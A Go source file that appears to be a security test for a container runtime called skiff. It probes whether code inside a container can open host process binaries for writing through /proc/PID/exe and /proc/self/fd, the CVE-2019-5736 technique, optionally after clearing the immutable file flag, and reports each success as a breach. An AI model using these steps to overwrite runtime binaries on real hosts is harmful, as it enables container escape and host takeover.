package main

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// ExeReport is what `escape exe` prints. Breaches lists every open for
// writing that succeeded on a binary that is not the container's own.
type ExeReport struct {
	Loops     int            `json:"loops"`
	Attempts  int            `json:"attempts"`
	SkiffSeen int            `json:"skiff_seen"` // distinct skiff processes seen
	Held      int            `json:"held"`       // foreign binaries held open read-only
	Errnos    map[string]int `json:"errnos"`
	Breaches  []Breach       `json:"breaches"`
	// Cleared lists binaries whose immutable flag this process managed
	// to clear (and then set again).
	Cleared []Breach `json:"cleared"`
	// Sealed lists opens for writing that succeeded on a memfd sealed
	// against writes (F_SEAL_WRITE): the kernel allows the open and
	// refuses every write, so they are not breaches.
	Sealed []Breach `json:"sealed"`
}

// Breach is one thing that should have failed.
type Breach struct {
	Pid     int    `json:"pid"`
	How     string `json:"how"`
	Exe     string `json:"exe"`
	Cmdline string `json:"cmdline"`
}

type inode struct{ dev, ino uint64 }

// heldExe is a read-only fd on another process's binary, kept to retry
// the reopen for writing once that process has exited (no ETXTBSY).
type heldExe struct {
	fd  int
	key inode
	// won: a write open got through once. Proof enough, and every
	// further one could make a runtime elsewhere on the machine fail
	// to exec its binary (ETXTBSY), so stop there.
	won     bool
	from    Breach
	isSkiff bool
}

type exeAttacker struct {
	rep        ExeReport
	local      map[inode]bool // the container's own binaries
	held       map[inode]*heldExe
	seen       map[string]bool // pid/starttime of skiff processes
	reported   map[string]bool // each breach once per binary and way
	clearImm   bool
	maxHeld    int
	selfPid    int
	selfExeIno inode
}

func exeAttack(stop string, max time.Duration, clearImm bool) *ExeReport {
	a := &exeAttacker{
		rep:      ExeReport{Errnos: map[string]int{}, Breaches: []Breach{}, Cleared: []Breach{}, Sealed: []Breach{}},
		local:    map[inode]bool{},
		held:     map[inode]*heldExe{},
		seen:     map[string]bool{},
		reported: map[string]bool{},
		clearImm: clearImm,
		maxHeld:  64,
		selfPid:  os.Getpid(),
	}
	for _, p := range []string{"/proc/self/exe", "/bin/busybox", "/probe", "/escape"} {
		var st unix.Stat_t
		if unix.Stat(p, &st) == nil {
			a.local[inode{st.Dev, st.Ino}] = true
		}
	}
	deadline := time.Now().Add(max)
	for !stopped(stop, deadline) {
		a.rep.Loops++
		a.scan()
		for _, h := range a.held {
			a.tryWrite(h)
		}
		time.Sleep(200 * time.Microsecond)
	}
	a.rep.SkiffSeen = len(a.seen)
	a.rep.Held = len(a.held)
	return &a.rep
}

func (a *exeAttacker) scan() {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		a.rep.Errnos["readdir /proc: "+errnoName(err)]++
		return
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == a.selfPid {
			continue
		}
		a.attack(pid)
	}
}

func (a *exeAttacker) attack(pid int) {
	info := Breach{Pid: pid, Cmdline: cmdline(pid)}
	info.Exe, _ = os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	skiff := isSkiff(info)
	if skiff {
		a.seen[fmt.Sprintf("%d/%s", pid, startTime(pid))] = true
	}
	path := fmt.Sprintf("/proc/%d/exe", pid)
	for _, fl := range []struct {
		flags int
		name  string
	}{{unix.O_WRONLY, "O_WRONLY"}, {unix.O_RDWR, "O_RDWR"}} {
		a.rep.Attempts++
		fd, err := unix.Open(path, fl.flags|unix.O_CLOEXEC, 0)
		if err != nil {
			a.rep.Errnos[errnoName(err)]++
			continue
		}
		if st, local := a.fstat(fd); !local {
			b := info
			b.How = "open " + path + " " + fl.name
			a.report(a.breachList(fd), fmt.Sprintf("open %s %v", fl.name, st), b)
		}
		unix.Close(fd)
	}
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		a.rep.Errnos["ro "+errnoName(err)]++
		return
	}
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || a.local[inode{st.Dev, st.Ino}] || len(a.held) >= a.maxHeld {
		unix.Close(fd)
		return
	}
	key := inode{st.Dev, st.Ino}
	if h, ok := a.held[key]; ok {
		h.isSkiff = h.isSkiff || skiff
		unix.Close(fd)
		return
	}
	h := &heldExe{fd: fd, key: key, from: info, isSkiff: skiff}
	a.held[key] = h
	a.tryWrite(h)
}

func (a *exeAttacker) fstat(fd int) (inode, bool) {
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil {
		return inode{}, false
	}
	key := inode{st.Dev, st.Ino}
	return key, a.local[key]
}

// report adds b to list the first time key is seen: a loop that gets
// through once gets through every time.
func (a *exeAttacker) report(list *[]Breach, key string, b Breach) {
	if a.reported[key] {
		return
	}
	a.reported[key] = true
	*list = append(*list, b)
}

// tryWrite reopens a held binary for writing through /proc/self/fd,
// the step the CVE-2019-5736 exploit takes once runc has exited, and,
// when asked, first clears the immutable flag that guards skiff's copy.
func (a *exeAttacker) tryWrite(h *heldExe) {
	if h.won {
		return
	}
	a.reopen(h, "reopen")
	if h.won || !a.clearImm {
		return
	}
	flags, err := unix.IoctlGetUint32(h.fd, unix.FS_IOC_GETFLAGS)
	if err != nil || flags&fsImmutable == 0 {
		return
	}
	a.rep.Attempts++
	if err := unix.IoctlSetPointerInt(h.fd, unix.FS_IOC_SETFLAGS, int(flags&^fsImmutable)); err != nil {
		a.rep.Errnos["clear-immutable "+errnoName(err)]++
		return
	}
	b := h.from
	b.How = "FS_IOC_SETFLAGS cleared FS_IMMUTABLE_FL"
	a.report(&a.rep.Cleared, fmt.Sprintf("cleared %v", h.key), b)
	a.reopen(h, "reopen after clearing immutable")
	// Put the seal back at once: other runtimes on this machine use it.
	if err := unix.IoctlSetPointerInt(h.fd, unix.FS_IOC_SETFLAGS, int(flags)); err != nil {
		a.rep.Errnos["restore-immutable "+errnoName(err)]++
	}
}

func (a *exeAttacker) reopen(h *heldExe, how string) {
	path := fmt.Sprintf("/proc/self/fd/%d", h.fd)
	for _, fl := range []struct {
		flags int
		name  string
	}{{unix.O_WRONLY, "O_WRONLY"}, {unix.O_RDWR, "O_RDWR"}} {
		a.rep.Attempts++
		fd, err := unix.Open(path, fl.flags|unix.O_CLOEXEC, 0)
		if err != nil {
			a.rep.Errnos[how+" "+errnoName(err)]++
			continue
		}
		list := a.breachList(fd)
		unix.Close(fd)
		if list == &a.rep.Breaches {
			h.won = true
		}
		b := h.from
		b.How = fmt.Sprintf("%s %s (/proc/self/fd of /proc/%d/exe) %s", how, path, h.from.Pid, fl.name)
		a.report(list, fmt.Sprintf("%s %s %v", how, fl.name, h.key), b)
	}
}

// breachList says where a successful open for writing goes: a memfd
// sealed against writes cannot be changed through it.
func (a *exeAttacker) breachList(fd int) *[]Breach {
	seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
	if err == nil && seals&(unix.F_SEAL_WRITE|unix.F_SEAL_FUTURE_WRITE) != 0 {
		return &a.rep.Sealed
	}
	return &a.rep.Breaches
}

// fsImmutable is FS_IMMUTABLE_FL.
const fsImmutable = 0x10

func cmdline(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	return string(bytes.ReplaceAll(bytes.TrimRight(b, "\x00"), []byte{0}, []byte{' '}))
}

func startTime(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	s := string(b)
	if i := strings.LastIndexByte(s, ')'); i >= 0 {
		if f := strings.Fields(s[i+1:]); len(f) > 19 {
			return f[19]
		}
	}
	return ""
}

// isSkiff recognises skiff's init and the binary re-executed through
// /proc/self/exe by its name: readlink of a non-dumpable process's exe
// fails, but its cmdline stays readable.
func isSkiff(b Breach) bool {
	argv0, _, _ := strings.Cut(b.Cmdline, " ")
	return strings.Contains(b.Exe, "skiff") || strings.Contains(argv0, "skiff") || argv0 == "/proc/self/exe"
}
